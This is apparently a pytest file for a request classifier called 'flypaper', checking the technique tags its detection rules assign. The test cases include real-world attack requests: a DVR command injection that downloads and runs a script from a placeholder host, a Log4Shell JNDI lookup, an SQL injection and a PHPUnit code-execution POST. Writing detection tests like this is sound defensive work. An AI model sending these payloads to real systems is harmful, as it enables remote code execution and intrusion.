"""Technique tags (rules/techniques.yar) through `flypaper classify`: the
"=tags" line names what a request tries, sorted and comma-separated,
beside the family rules' match lines, and ordinary requests get none. The
requests are written here; tests/unit/normalize.c has one per tag."""
import subprocess

import pytest

from conftest import FLYPAPER, ROOT

CASES = [
    (b"GET /shell?cd+/tmp;rm+-rf+*;wget+ http://192.0.2.1/a;sh+/tmp/a HTTP/1.1\r\n\r\n",
     "jaws_dvr", "rce"),
    (b"GET / HTTP/1.1\r\nX-Api-Version: ${${lower:J}${::-n}di:ldap://192.0.2.1/a}\r\n\r\n",
     "log4shell", "cve-2021-44228,jndi"),       # the family rule reads http_log4j too
    (b"GET /?id=1%2527%2520UNION%2520SELECT%2520null-- HTTP/1.1\r\n\r\n", None, "sqli"),
    (b"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n"
     b"Content-Length: 13\r\n\r\n<?php echo 1;", "phpunit_rce", "cve-2017-9841,php-injection"),
    (b"GET /index.html HTTP/1.1\r\nHost: example\r\nUser-Agent: curl/7.88.1\r\n\r\n", None, None),
]


def classify(tmp_path, data):
    path = tmp_path / "req.bin"
    path.write_bytes(data)
    r = subprocess.run([FLYPAPER, "classify", "--rules", f"{ROOT}/rules", str(path)],
                       capture_output=True, text=True, timeout=30)
    assert r.returncode == 0, r.stderr
    return [line.split("\t") for line in r.stdout.splitlines()]


@pytest.mark.parametrize("i", range(len(CASES)))
def test_classify_prints_the_technique_tags(tmp_path, i):
    data, rule, tags = CASES[i]
    lines = classify(tmp_path, data)
    assert [l[1] for l in lines if not l[1].startswith("=")] == ([rule] if rule else [])
    assert [l[2] for l in lines if l[1] == "=tags"] == ([tags] if tags else [])
